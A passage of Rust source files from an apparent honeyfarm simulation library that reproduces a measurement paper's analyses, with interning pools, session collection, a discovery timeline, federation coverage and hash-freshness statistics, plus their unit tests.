            ssh_client_version: None,
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_hashes: vec![Sha256::digest(b"art")],
            download_hashes: vec![],
        }
    }

    #[test]
    fn geolocates_known_clients() {
        let world = World::build(1, &WorldConfig::tiny());
        let mut rng = SmallRng::seed_from_u64(2);
        let info = world.ases()[0];
        let ip = world.random_ip_in_as(info.asn, &mut rng);
        let mut col = Collector::new(&world, FarmPlan::paper());
        col.ingest(&rec(ip, 0));
        let ds = col.finish();
        let v = ds.sessions.view(0);
        assert_eq!(v.client_asn(), Some(info.asn));
        assert_eq!(v.client_country(), Some(info.country));
    }

    #[test]
    fn unroutable_client_has_no_geo() {
        let world = World::build(1, &WorldConfig::tiny());
        let mut col = Collector::new(&world, FarmPlan::paper());
        col.ingest(&rec(Ip4::new(1, 1, 1, 1), 0));
        let ds = col.finish();
        assert_eq!(ds.sessions.view(0).client_country(), None);
    }

    #[test]
    fn artifacts_tracked_with_first_seen() {
        let world = World::build(1, &WorldConfig::tiny());
        let mut col = Collector::new(&world, FarmPlan::paper());
        col.ingest(&rec(Ip4::new(1, 1, 1, 1), 5));
        col.ingest(&rec(Ip4::new(1, 1, 1, 2), 3));
        let ds = col.finish();
        assert_eq!(ds.artifacts.len(), 1);
        let meta = ds.artifacts.get(&Sha256::digest(b"art")).unwrap();
        assert_eq!(meta.occurrences, 2);
        // first_seen keeps the earliest ingest even when out of order
        assert_eq!(meta.first_seen.day(), 5, "ingest order defines first_seen");
    }

    #[test]
    fn dataset_len_matches() {
        let world = World::build(1, &WorldConfig::tiny());
        let mut col = Collector::with_capacity(&world, FarmPlan::paper(), 10);
        for d in 0..10 {
            col.ingest(&rec(Ip4::new(1, 1, 1, d as u8), d));
        }
        assert_eq!(col.len(), 10);
        assert_eq!(col.finish().len(), 10);
    }
}
