//! Interning pools: strings, digests, and small id-lists.
//!
//! A 400-million-session dataset cannot store credential strings and command
//! lists per row. But honeypot traffic is massively repetitive — a campaign
//! replays the same password and the same command script from thousands of
//! clients — so pooling turns per-session variable-size data into fixed-size
//! u32 handles. DESIGN.md lists "interned ids vs string keys" as an ablation;
//! `hf-bench` measures it.

use std::collections::HashMap;

use hf_hash::Digest;

/// Sentinel id meaning "no value".
pub const NONE_ID: u32 = u32::MAX;

/// Hard capacity limit on every pool: 2³¹ entries.
///
/// Store rows pack interned ids as `id << 1 | flag` in a `u32`
/// (`store.rs`), so an id must fit in 31 bits — one entry past the limit
/// silently shifts into the flag bit and corrupts every packed list that
/// references it. `NONE_ID` is additionally reserved as a sentinel, which
/// the limit also keeps unreachable. The pools `debug_assert!` at the
/// boundary; the snapshot writer refuses to persist an overflowing pool
/// with a typed [`crate::snapshot::SnapshotError::PoolOverflow`].
pub const MAX_POOL_LEN: usize = 1 << 31;

/// Deduplicating string pool.
#[derive(Debug, Default, Clone)]
pub struct StringPool {
    by_str: HashMap<String, u32>,
    items: Vec<String>,
}

impl StringPool {
    /// Empty pool.
    pub fn new() -> Self {
        Self::default()
    }

    /// Intern a string, returning its id.
    ///
    /// Pools are capped at [`MAX_POOL_LEN`] distinct entries; beyond that,
    /// packed `id << 1 | flag` handles would corrupt their flag bit.
    pub fn intern(&mut self, s: &str) -> u32 {
        if let Some(&id) = self.by_str.get(s) {
            return id;
        }
        debug_assert!(
            self.items.len() < MAX_POOL_LEN,
            "StringPool overflow: id {} would not fit in 31 bits",
            self.items.len()
        );
        let id = self.items.len() as u32;
        self.items.push(s.to_string());
        self.by_str.insert(s.to_string(), id);
        id
    }

    /// Resolve an id. Panics when `id` was never issued; loaders validating
    /// untrusted ids should use [`StringPool::try_get`].
    pub fn get(&self, id: u32) -> &str {
        &self.items[id as usize]
    }

    /// Resolve an id, returning `None` when it is out of range.
    pub fn try_get(&self, id: u32) -> Option<&str> {
        self.items.get(id as usize).map(String::as_str)
    }

    /// Find without inserting.
    pub fn lookup(&self, s: &str) -> Option<u32> {
        self.by_str.get(s).copied()
    }

    /// Number of distinct strings.
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// Is the pool empty?
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// Iterate `(id, string)` in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = (u32, &str)> {
        self.items
            .iter()
            .enumerate()
            .map(|(i, s)| (i as u32, s.as_str()))
    }
}

/// Deduplicating digest pool (SHA-256 values).
#[derive(Debug, Default, Clone)]
pub struct DigestPool {
    by_digest: HashMap<Digest, u32>,
    items: Vec<Digest>,
}

impl DigestPool {
    /// Empty pool.
    pub fn new() -> Self {
        Self::default()
    }

    /// Intern a digest (capped at [`MAX_POOL_LEN`] entries, like every pool).
    pub fn intern(&mut self, d: Digest) -> u32 {
        if let Some(&id) = self.by_digest.get(&d) {
            return id;
        }
        debug_assert!(
            self.items.len() < MAX_POOL_LEN,
            "DigestPool overflow: id {} would not fit in 31 bits",
            self.items.len()
        );
        let id = self.items.len() as u32;
        self.items.push(d);
        self.by_digest.insert(d, id);
        id
    }

    /// Resolve an id. Panics when `id` was never issued; loaders validating
    /// untrusted ids should use [`DigestPool::try_get`].
    pub fn get(&self, id: u32) -> Digest {
        self.items[id as usize]
    }

    /// Resolve an id, returning `None` when it is out of range.
    pub fn try_get(&self, id: u32) -> Option<Digest> {
        self.items.get(id as usize).copied()
    }

    /// Find without inserting.
    pub fn lookup(&self, d: &Digest) -> Option<u32> {
        self.by_digest.get(d).copied()
    }

    /// Number of distinct digests.
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// Is the pool empty?
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// Iterate `(id, digest)`.
    pub fn iter(&self) -> impl Iterator<Item = (u32, Digest)> + '_ {
        self.items.iter().enumerate().map(|(i, d)| (i as u32, *d))
    }
}

/// Deduplicating pool of u32 lists, stored flattened (arena + ranges).
#[derive(Debug, Default, Clone)]
pub struct ListPool {
    by_list: HashMap<Vec<u32>, u32>,
    /// Flattened contents.
    arena: Vec<u32>,
    /// (offset, len) per list id.
    ranges: Vec<(u32, u32)>,
}

impl ListPool {
    /// Empty pool with the empty list pre-interned as id 0.
    pub fn new() -> Self {
        let mut p = ListPool::default();
        p.intern(&[]);
        p
    }

    /// Id of the empty list.
    pub const EMPTY: u32 = 0;

    /// Intern a list (capped at [`MAX_POOL_LEN`] distinct lists).
    pub fn intern(&mut self, list: &[u32]) -> u32 {
        if let Some(&id) = self.by_list.get(list) {
            return id;
        }
        debug_assert!(
            self.ranges.len() < MAX_POOL_LEN,
            "ListPool overflow: id {} would not fit in 31 bits",
            self.ranges.len()
        );
        let id = self.ranges.len() as u32;
        let offset = self.arena.len() as u32;
        self.arena.extend_from_slice(list);
        self.ranges.push((offset, list.len() as u32));
        self.by_list.insert(list.to_vec(), id);
        id
    }

    /// Resolve an id to its slice. Panics when `id` was never issued;
    /// loaders validating untrusted ids should use [`ListPool::try_get`].
    pub fn get(&self, id: u32) -> &[u32] {
        let (off, len) = self.ranges[id as usize];
        &self.arena[off as usize..(off + len) as usize]
    }

    /// Resolve an id, returning `None` when it is out of range.
    pub fn try_get(&self, id: u32) -> Option<&[u32]> {
        let &(off, len) = self.ranges.get(id as usize)?;
        Some(&self.arena[off as usize..(off + len) as usize])
    }

    /// Iterate lists in id order.
    pub fn iter(&self) -> impl Iterator<Item = (u32, &[u32])> {
        (0..self.ranges.len() as u32).map(move |id| (id, self.get(id)))
    }

    /// Number of distinct lists.
    pub fn len(&self) -> usize {
        self.ranges.len()
    }

    /// Is the pool empty (it never is after `new`)?
    pub fn is_empty(&self) -> bool {
        self.ranges.is_empty()
    }

    /// Total flattened size (for memory accounting).
    pub fn arena_len(&self) -> usize {
        self.arena.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_hash::Sha256;

    #[test]
    fn string_pool_dedups() {
        let mut p = StringPool::new();
        let a = p.intern("root");
        let b = p.intern("1234");
        let a2 = p.intern("root");
        assert_eq!(a, a2);
        assert_ne!(a, b);
        assert_eq!(p.get(a), "root");
        assert_eq!(p.len(), 2);
        assert_eq!(p.lookup("1234"), Some(b));
        assert_eq!(p.lookup("nope"), None);
    }

    #[test]
    fn digest_pool_dedups() {
        let mut p = DigestPool::new();
        let d1 = Sha256::digest(b"a");
        let d2 = Sha256::digest(b"b");
        let i1 = p.intern(d1);
        let i2 = p.intern(d2);
        assert_eq!(p.intern(d1), i1);
        assert_ne!(i1, i2);
        assert_eq!(p.get(i2), d2);
    }

    #[test]
    fn list_pool_roundtrip() {
        let mut p = ListPool::new();
        assert_eq!(p.get(ListPool::EMPTY), &[] as &[u32]);
        let a = p.intern(&[1, 2, 3]);
        let b = p.intern(&[1, 2]);
        let a2 = p.intern(&[1, 2, 3]);
        assert_eq!(a, a2);
        assert_eq!(p.get(a), &[1, 2, 3]);
        assert_eq!(p.get(b), &[1, 2]);
        assert_eq!(p.len(), 3); // empty + two lists
    }

    #[test]
    fn list_pool_distinguishes_order() {
        let mut p = ListPool::new();
        let a = p.intern(&[1, 2]);
        let b = p.intern(&[2, 1]);
        assert_ne!(a, b);
    }

    #[test]
    fn try_get_rejects_out_of_range_ids() {
        let mut s = StringPool::new();
        let id = s.intern("root");
        assert_eq!(s.try_get(id), Some("root"));
        assert_eq!(s.try_get(id + 1), None);
        assert_eq!(s.try_get(NONE_ID), None);

        let mut d = DigestPool::new();
        let h = Sha256::digest(b"a");
        let id = d.intern(h);
        assert_eq!(d.try_get(id), Some(h));
        assert_eq!(d.try_get(id + 1), None);

        let mut l = ListPool::new();
        let id = l.intern(&[7, 8]);
        assert_eq!(l.try_get(id), Some(&[7u32, 8][..]));
        assert_eq!(l.try_get(id + 1), None);
    }

    #[test]
    fn list_pool_iter_in_id_order() {
        let mut p = ListPool::new();
        p.intern(&[1]);
        p.intern(&[2, 3]);
        let all: Vec<(u32, Vec<u32>)> = p.iter().map(|(i, l)| (i, l.to_vec())).collect();
        assert_eq!(all, vec![(0, vec![]), (1, vec![1]), (2, vec![2, 3])]);
    }
}
