//! The honeyfarm: deployment plan and central collector.
//!
//! The paper's farm is 221 identically-configured Cowrie honeypots in 55
//! countries and 65 ASes, reporting per-session summaries to a central
//! database (Section 4). This crate provides:
//!
//! - [`deployment`]: the node plan — per-honeypot IP, AS, country, and
//!   machine profile, with the paper's country/AS cardinalities,
//! - [`intern`]: string/digest/list interning pools that make a
//!   hundreds-of-millions-of-sessions store feasible (campaign sessions
//!   repeat identical credential and command lists, so interning collapses
//!   them to one id),
//! - [`store`]: the columnar [`store::SessionStore`] with a typed
//!   [`store::SessionView`] query API,
//! - [`collector`]: the ingest pipeline gluing honeypot
//!   [`hf_honeypot::SessionRecord`]s, geolocation, and the artifact store
//!   into a finished [`collector::Dataset`],
//! - [`snapshot`]: the `hfstore` on-disk format — versioned, per-section
//!   checksummed snapshots of store + tags + deployment, so reanalysis
//!   (`hfarm report`) never has to re-simulate.

pub mod collector;
pub mod deployment;
pub mod intern;
pub mod snapshot;
pub mod store;
pub mod tags;

pub use collector::{Collector, Dataset};
pub use deployment::{FarmPlan, HoneypotNode};
pub use intern::{DigestPool, ListPool, StringPool};
pub use snapshot::{Snapshot, SnapshotError, SnapshotMeta, SnapshotReader};
pub use store::{Row, SessionStore, SessionView};
pub use tags::{TagDb, TagEntry};
