//! The paper's measurement pipeline — the primary contribution of
//! *"Fifteen Months in the Life of a Honeyfarm"* (IMC '23), reimplemented as
//! a library over the honeyfarm dataset.
//!
//! - [`classify`](mod@classify): the five-way session taxonomy of Section 6 (NO_CRED /
//!   FAIL_LOG / NO_CMD / CMD / CMD+URI) and the scanner/scouter/intruder
//!   behaviour classes,
//! - [`metrics`]: the statistics toolkit — ECDFs, daily percentile bands
//!   (median/IQR/5–95), rank curves, hash-freshness windows, regional
//!   diversity,
//! - [`aggregates`]: a single streaming pass over the session store that
//!   computes every per-day / per-honeypot / per-client / per-hash grouping
//!   the reports need,
//! - [`report`]: one reproducer per table (T1–T6) and figure (F1–F24) of the
//!   paper, each returning typed rows/series and rendering to text,
//! - [`claims`]: the headline scalar findings (top-10 honeypots ≈ 14% of
//!   sessions, >60% of hashes seen by one honeypot, ~40% multi-role IPs, …)
//!   computed from the dataset for the EXPERIMENTS.md comparison,
//! - [`federation`] and [`birth`]: the Discussion-section analyses —
//!   quantifying the coverage/early-warning gain of federating independent
//!   honeyfarms, and the farm's discovery timeline after launch.
//!
//! ```no_run
//! use hf_sim::{SimConfig, Simulation};
//! use hf_core::{aggregates::Aggregates, report::Report};
//!
//! let out = Simulation::run(SimConfig::default());
//! let agg = Aggregates::compute(&out.dataset);
//! let report = Report::build(&out.dataset, &agg);
//! println!("{}", report.table1);
//! ```

pub mod aggregates;
pub mod birth;
pub mod claims;
pub mod classify;
pub mod federation;
pub mod idhash;
pub mod metrics;
pub mod report;

pub use aggregates::{Aggregates, StreamingFold};
pub use birth::{birth_report, BirthReport};
pub use claims::Claims;
pub use classify::{classify, BehaviorClass, Category};
pub use federation::{federate, FarmSightings, FederationReport};
pub use report::Report;
