//! Statistics toolkit used by every figure reproducer.

pub mod bands;
pub mod ecdf;
pub mod freshness;
pub mod ranks;

pub use bands::{BandPoint, BandSeries};
pub use ecdf::Ecdf;
pub use freshness::FreshnessSeries;
pub use ranks::rank_series;
