//! "The Birth of a Honeyfarm" (paper Section 9).
//!
//! The farm went live on previously unused addresses, so the paper can watch
//! the Internet *discover* it: intrusion activity arrives essentially from
//! day one, scouting ramps up after about a month, scanning after about two,
//! and activity never drops off — attackers never bothered blacklisting the
//! honeypots. This module computes that discovery timeline from a dataset.

use crate::aggregates::Aggregates;
use crate::classify::BehaviorClass;

/// Weekly activity by behaviour class.
#[derive(Debug, Clone, PartialEq)]
pub struct BirthWeek {
    /// Week index since farm launch (0-based).
    pub week: u32,
    /// Scanning (NO_CRED) sessions.
    pub scanning: u64,
    /// Scouting (FAIL_LOG) sessions.
    pub scouting: u64,
    /// Intrusion (NO_CMD/CMD/CMD+URI) sessions.
    pub intrusion: u64,
}

impl BirthWeek {
    /// Total sessions in the week.
    pub fn total(&self) -> u64 {
        self.scanning + self.scouting + self.intrusion
    }
}

/// The discovery timeline.
#[derive(Debug, Clone, PartialEq)]
pub struct BirthReport {
    /// One row per week.
    pub weeks: Vec<BirthWeek>,
    /// First week in which scouting exceeds its first-week level by ≥50%
    /// (the paper: "more than a month until the level of scouting increases").
    pub scouting_rampup_week: Option<u32>,
    /// Same for scanning (paper: "more than 6 months for scanning" in IP
    /// terms; session volume ramps after ~2 months).
    pub scanning_rampup_week: Option<u32>,
    /// Ratio of the last month's total activity to the peak month — close to
    /// 1.0 means no drop-off ("attackers did not bother blacklisting").
    pub final_month_vs_peak: f64,
}

/// Compute the birth timeline.
pub fn birth_report(agg: &Aggregates) -> BirthReport {
    let n_weeks = agg.n_days.div_ceil(7);
    let mut weeks: Vec<BirthWeek> = (0..n_weeks)
        .map(|week| BirthWeek {
            week,
            scanning: 0,
            scouting: 0,
            intrusion: 0,
        })
        .collect();
    for day in 0..agg.n_days as usize {
        let w = day / 7;
        for ci in 0..5 {
            let count = agg.day_by_cat[ci][day];
            let class = crate::classify::Category::from_index(ci).behavior();
            match class {
                BehaviorClass::Scanning => weeks[w].scanning += count,
                BehaviorClass::Scouting => weeks[w].scouting += count,
                BehaviorClass::Intrusion => weeks[w].intrusion += count,
            }
        }
    }

    let rampup = |get: fn(&BirthWeek) -> u64| -> Option<u32> {
        let base = weeks.first().map(get)?;
        weeks
            .iter()
            .find(|w| get(w) as f64 >= base as f64 * 1.5)
            .map(|w| w.week)
    };

    // Monthly totals for the drop-off check.
    let monthly: Vec<u64> = weeks
        .chunks(4)
        .map(|c| c.iter().map(|w| w.total()).sum())
        .collect();
    let peak = monthly.iter().copied().max().unwrap_or(0);
    // Last *complete* month (a trailing partial chunk underestimates).
    let last_full = if weeks.len().is_multiple_of(4) || monthly.len() < 2 {
        monthly.last().copied().unwrap_or(0)
    } else {
        monthly[monthly.len() - 2]
    };

    BirthReport {
        scouting_rampup_week: rampup(|w| w.scouting),
        scanning_rampup_week: rampup(|w| w.scanning),
        final_month_vs_peak: if peak == 0 {
            0.0
        } else {
            last_full as f64 / peak as f64
        },
        weeks,
    }
}

impl std::fmt::Display for BirthReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(
            f,
            "{:>5} {:>12} {:>12} {:>12}",
            "week", "scanning", "scouting", "intrusion"
        )?;
        for w in self.weeks.iter().take(12) {
            writeln!(
                f,
                "{:>5} {:>12} {:>12} {:>12}",
                w.week, w.scanning, w.scouting, w.intrusion
            )?;
        }
        if self.weeks.len() > 12 {
            writeln!(f, "  ... ({} weeks total)", self.weeks.len())?;
        }
        writeln!(
            f,
            "scouting ramp-up: week {:?}; scanning ramp-up: week {:?}; final/peak month: {:.2}",
            self.scouting_rampup_week, self.scanning_rampup_week, self.final_month_vs_peak
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_sim::{SimConfig, Simulation};
    use hf_simclock::StudyWindow;

    #[test]
    fn birth_timeline_shapes() {
        let out = Simulation::run(SimConfig {
            seed: 9,
            scale: hf_agents::Scale::of(0.001),
            window: StudyWindow::first_days(140),
            use_script_cache: false,
            threads: 1,
        });
        let agg = Aggregates::compute(&out.dataset);
        let rep = birth_report(&agg);
        assert_eq!(rep.weeks.len(), 20);
        // Intrusion present from week 0 (the paper's "from day one").
        assert!(rep.weeks[0].intrusion > 0);
        // Scouting ramps up after some weeks, scanning later/likewise.
        let scout = rep.scouting_rampup_week.expect("scouting ramps");
        assert!(scout >= 2, "scouting ramp at week {scout}");
        let scan = rep.scanning_rampup_week.expect("scanning ramps");
        assert!(scan >= 6, "scanning ramp at week {scan}");
        // Weekly totals consistent with the aggregate total.
        let total: u64 = rep.weeks.iter().map(|w| w.total()).sum();
        assert_eq!(total, agg.total_sessions);
        let _ = rep.to_string();
    }

    #[test]
    fn no_drop_off_at_the_end() {
        let out = Simulation::run(SimConfig {
            seed: 10,
            scale: hf_agents::Scale::tiny(),
            window: StudyWindow::first_days(100),
            use_script_cache: false,
            threads: 1,
        });
        let agg = Aggregates::compute(&out.dataset);
        let rep = birth_report(&agg);
        assert!(
            rep.final_month_vs_peak > 0.4,
            "activity should not collapse: {}",
            rep.final_month_vs_peak
        );
    }
}
