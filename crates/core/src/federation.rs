//! Federated honeyfarms (paper Section 9, "Federated Honeyfarms").
//!
//! The paper argues that since even the best honeypot sees <5% of all hashes,
//! independent honeyfarm operators should share data: federation "will
//! substantially improve the visibility of activities … but also has the
//! potential to identify such activity earlier". This module quantifies that
//! argument over our datasets: given several farms' aggregates, it computes
//! the hash-coverage gain and the detection-latency gain of pooling.

use std::collections::HashMap;

use hf_farm::Dataset;
use hf_hash::Digest;

/// Per-farm view of hash sightings: hash → first-seen day.
#[derive(Debug, Clone, Default)]
pub struct FarmSightings {
    /// Farm label.
    pub name: String,
    /// First day each hash was observed by this farm.
    pub first_seen: HashMap<Digest, u32>,
}

impl FarmSightings {
    /// Extract sightings from a dataset.
    pub fn from_dataset(name: &str, dataset: &Dataset) -> FarmSightings {
        let mut first_seen: HashMap<Digest, u32> = HashMap::new();
        for v in dataset.sessions.iter() {
            let day = v.day();
            for h in v.file_hashes() {
                first_seen
                    .entry(h)
                    .and_modify(|d| *d = (*d).min(day))
                    .or_insert(day);
            }
        }
        FarmSightings {
            name: name.to_string(),
            first_seen,
        }
    }

    /// Number of distinct hashes this farm saw.
    pub fn coverage(&self) -> usize {
        self.first_seen.len()
    }
}

/// Result of federating several farms.
#[derive(Debug, Clone)]
pub struct FederationReport {
    /// Per-farm (name, distinct hashes seen).
    pub per_farm: Vec<(String, usize)>,
    /// Distinct hashes in the union.
    pub union_coverage: usize,
    /// Hashes seen by every member (the "easy" intersection).
    pub intersection_coverage: usize,
    /// Coverage gain of the union over the best single farm.
    pub coverage_gain: f64,
    /// Over hashes seen by ≥2 farms: mean days by which the earliest
    /// observer beats the average observer — the early-warning value of
    /// sharing.
    pub mean_detection_lead_days: f64,
    /// Hashes where federation would have warned at least one member ≥7
    /// days before it saw the hash itself.
    pub week_early_warnings: usize,
}

/// Federate any number of farms' sightings.
pub fn federate(farms: &[FarmSightings]) -> FederationReport {
    assert!(!farms.is_empty(), "federation needs at least one farm");
    let per_farm: Vec<(String, usize)> = farms
        .iter()
        .map(|f| (f.name.clone(), f.coverage()))
        .collect();
    // Union and per-hash observation lists.
    let mut sightings: HashMap<Digest, Vec<u32>> = HashMap::new();
    for farm in farms {
        for (&h, &d) in &farm.first_seen {
            sightings.entry(h).or_default().push(d);
        }
    }
    let union_coverage = sightings.len();
    let intersection_coverage = sightings
        .values()
        .filter(|days| days.len() == farms.len())
        .count();
    let best_single = per_farm.iter().map(|(_, c)| *c).max().unwrap_or(0);

    let mut lead_sum = 0.0;
    let mut lead_n = 0u64;
    let mut week_early = 0usize;
    for days in sightings.values() {
        if days.len() < 2 {
            continue;
        }
        let earliest = *days.iter().min().unwrap() as f64;
        let mean = days.iter().map(|&d| d as f64).sum::<f64>() / days.len() as f64;
        lead_sum += mean - earliest;
        lead_n += 1;
        if days.iter().any(|&d| d as f64 - earliest >= 7.0) {
            week_early += 1;
        }
    }
    FederationReport {
        per_farm,
        union_coverage,
        intersection_coverage,
        coverage_gain: if best_single == 0 {
            0.0
        } else {
            union_coverage as f64 / best_single as f64
        },
        mean_detection_lead_days: if lead_n == 0 {
            0.0
        } else {
            lead_sum / lead_n as f64
        },
        week_early_warnings: week_early,
    }
}

impl std::fmt::Display for FederationReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (name, cov) in &self.per_farm {
            writeln!(f, "farm {name:<12} sees {cov:>7} distinct hashes")?;
        }
        writeln!(
            f,
            "union               {:>7} ({:.2}x the best single farm)",
            self.union_coverage, self.coverage_gain
        )?;
        writeln!(f, "seen by all members {:>7}", self.intersection_coverage)?;
        writeln!(
            f,
            "mean detection lead {:>9.1} days on shared hashes; {} hashes with ≥7-day early warning",
            self.mean_detection_lead_days, self.week_early_warnings
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_sim::{SimConfig, Simulation};
    use hf_simclock::StudyWindow;

    fn farm(seed: u64) -> FarmSightings {
        let out = Simulation::run(SimConfig {
            seed,
            scale: hf_agents::Scale::tiny(),
            window: StudyWindow::first_days(25),
            use_script_cache: false,
            threads: 1,
        });
        FarmSightings::from_dataset(&format!("farm-{seed}"), &out.dataset)
    }

    #[test]
    fn union_exceeds_best_single_farm() {
        let a = farm(1);
        let b = farm(2);
        let rep = federate(&[a.clone(), b.clone()]);
        assert_eq!(rep.per_farm.len(), 2);
        assert!(rep.union_coverage >= a.coverage().max(b.coverage()));
        // Different seeds → mostly different tail campaigns → real gain.
        assert!(
            rep.coverage_gain > 1.3,
            "federation gain {} (a {}, b {}, union {})",
            rep.coverage_gain,
            a.coverage(),
            b.coverage(),
            rep.union_coverage
        );
    }

    #[test]
    fn intersection_bounded_by_members() {
        let a = farm(3);
        let b = farm(4);
        let rep = federate(&[a.clone(), b.clone()]);
        assert!(rep.intersection_coverage <= a.coverage().min(b.coverage()));
    }

    #[test]
    fn single_farm_is_identity() {
        let a = farm(5);
        let rep = federate(std::slice::from_ref(&a));
        assert_eq!(rep.union_coverage, a.coverage());
        assert!((rep.coverage_gain - 1.0).abs() < 1e-12);
        assert_eq!(rep.mean_detection_lead_days, 0.0);
        let _ = rep.to_string();
    }

    #[test]
    fn detection_lead_nonnegative() {
        let rep = federate(&[farm(6), farm(7), farm(8)]);
        assert!(rep.mean_detection_lead_days >= 0.0);
    }
}
