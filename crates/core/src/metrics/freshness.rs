//! Hash freshness over time (paper Section 8.3, Fig. 17).
//!
//! For every day: the number of distinct hashes observed, and the fraction
//! of them that are *fresh* under three memories — never seen before, not
//! seen in the last 30 days, not seen in the last 7 days.

use hf_simclock::SlidingDayWindow;
use serde::{Deserialize, Serialize};

/// One day of freshness data.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FreshnessPoint {
    /// Day index.
    pub day: u32,
    /// Distinct hashes observed this day.
    pub unique: u32,
    /// Of those, never seen on any earlier day.
    pub fresh_ever: u32,
    /// Not seen within the preceding 30 days.
    pub fresh_30d: u32,
    /// Not seen within the preceding 7 days.
    pub fresh_7d: u32,
}

impl FreshnessPoint {
    /// Fresh fraction under the unbounded memory.
    pub fn frac_ever(&self) -> f64 {
        if self.unique == 0 {
            0.0
        } else {
            self.fresh_ever as f64 / self.unique as f64
        }
    }
}

/// Streaming builder: feed day-ordered hash observations.
#[derive(Debug, Clone)]
pub struct FreshnessSeries {
    ever: SlidingDayWindow<u32, crate::idhash::BuildIdHasher>,
    w30: SlidingDayWindow<u32, crate::idhash::BuildIdHasher>,
    w7: SlidingDayWindow<u32, crate::idhash::BuildIdHasher>,
    /// Hashes already counted for the current day.
    today: crate::idhash::IdSet,
    current_day: u32,
    current: FreshnessPoint,
    /// Finished days.
    pub points: Vec<FreshnessPoint>,
}

impl Default for FreshnessSeries {
    fn default() -> Self {
        Self::new()
    }
}

impl FreshnessSeries {
    /// Fresh builder.
    pub fn new() -> Self {
        FreshnessSeries {
            ever: SlidingDayWindow::unbounded(),
            w30: SlidingDayWindow::with_days(30),
            w7: SlidingDayWindow::with_days(7),
            today: Default::default(),
            current_day: 0,
            current: FreshnessPoint {
                day: 0,
                unique: 0,
                fresh_ever: 0,
                fresh_30d: 0,
                fresh_7d: 0,
            },
            points: Vec::new(),
        }
    }

    /// Observe a hash id on a day (days must be non-decreasing).
    pub fn observe(&mut self, hash_id: u32, day: u32) {
        debug_assert!(day >= self.current_day);
        if day != self.current_day {
            self.flush_day();
            self.current_day = day;
            self.current = FreshnessPoint {
                day,
                ..self.current
            };
        }
        if !self.today.insert(hash_id) {
            return; // already counted today; windows already updated
        }
        self.current.unique += 1;
        // Order matters: query windows *before* recording today's sighting.
        if self.ever.observe(hash_id, day) {
            self.current.fresh_ever += 1;
        }
        if self.w30.observe(hash_id, day) {
            self.current.fresh_30d += 1;
        }
        if self.w7.observe(hash_id, day) {
            self.current.fresh_7d += 1;
        }
    }

    fn flush_day(&mut self) {
        if self.current.unique > 0 {
            self.points.push(self.current);
        }
        self.today.clear();
        self.current = FreshnessPoint {
            day: self.current_day,
            unique: 0,
            fresh_ever: 0,
            fresh_30d: 0,
            fresh_7d: 0,
        };
    }

    /// Finish, returning all per-day points.
    pub fn finish(mut self) -> Vec<FreshnessPoint> {
        self.flush_day();
        self.points
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn first_sighting_is_fresh_everywhere() {
        let mut f = FreshnessSeries::new();
        f.observe(1, 0);
        f.observe(2, 0);
        let pts = f.finish();
        assert_eq!(pts.len(), 1);
        assert_eq!(pts[0].unique, 2);
        assert_eq!(pts[0].fresh_ever, 2);
        assert_eq!(pts[0].fresh_30d, 2);
        assert_eq!(pts[0].fresh_7d, 2);
        assert_eq!(pts[0].frac_ever(), 1.0);
    }

    #[test]
    fn same_day_duplicates_count_once() {
        let mut f = FreshnessSeries::new();
        f.observe(1, 0);
        f.observe(1, 0);
        f.observe(1, 0);
        let pts = f.finish();
        assert_eq!(pts[0].unique, 1);
        assert_eq!(pts[0].fresh_ever, 1);
    }

    #[test]
    fn window_semantics_differ_by_memory() {
        let mut f = FreshnessSeries::new();
        f.observe(1, 0);
        // 10 days later: fresh for 7d window, stale for 30d and ever.
        f.observe(1, 10);
        // 50 days later: fresh for 7d and 30d, stale for ever.
        f.observe(1, 60);
        let pts = f.finish();
        assert_eq!(pts.len(), 3);
        assert_eq!(
            (pts[1].fresh_ever, pts[1].fresh_30d, pts[1].fresh_7d),
            (0, 0, 1)
        );
        assert_eq!(
            (pts[2].fresh_ever, pts[2].fresh_30d, pts[2].fresh_7d),
            (0, 1, 1)
        );
    }

    #[test]
    fn shorter_memory_is_always_fresher() {
        // fresh_7d >= fresh_30d >= fresh_ever on every day.
        let mut f = FreshnessSeries::new();
        for day in 0..100u32 {
            for h in 0..20u32 {
                if (day + h) % 3 != 0 {
                    f.observe(h, day);
                }
            }
        }
        for p in f.finish() {
            assert!(p.fresh_7d >= p.fresh_30d, "{p:?}");
            assert!(p.fresh_30d >= p.fresh_ever, "{p:?}");
            assert!(p.unique >= p.fresh_7d);
        }
    }

    #[test]
    fn empty_days_are_skipped() {
        let mut f = FreshnessSeries::new();
        f.observe(1, 0);
        f.observe(2, 5);
        let pts = f.finish();
        assert_eq!(pts.len(), 2);
        assert_eq!(pts[0].day, 0);
        assert_eq!(pts[1].day, 5);
    }
}
