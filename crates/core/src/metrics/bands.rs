//! Daily percentile bands: median, IQR, and 5th/95th percentile ranges of a
//! per-honeypot quantity across time (Figs. 3, 4, 8, 9).

use serde::{Deserialize, Serialize};

/// One day's band values.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct BandPoint {
    /// Day index.
    pub day: u32,
    /// 5th percentile.
    pub p5: f64,
    /// 25th percentile.
    pub q25: f64,
    /// Median.
    pub median: f64,
    /// 75th percentile.
    pub q75: f64,
    /// 95th percentile.
    pub p95: f64,
}

/// A band time-series.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct BandSeries {
    /// One point per day.
    pub points: Vec<BandPoint>,
}

/// Percentile of a sorted slice (nearest-rank with linear interpolation).
fn percentile(sorted: &[u32], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    if sorted.len() == 1 {
        return sorted[0] as f64;
    }
    let rank = p.clamp(0.0, 1.0) * (sorted.len() - 1) as f64;
    let lo = rank.floor() as usize;
    let hi = rank.ceil() as usize;
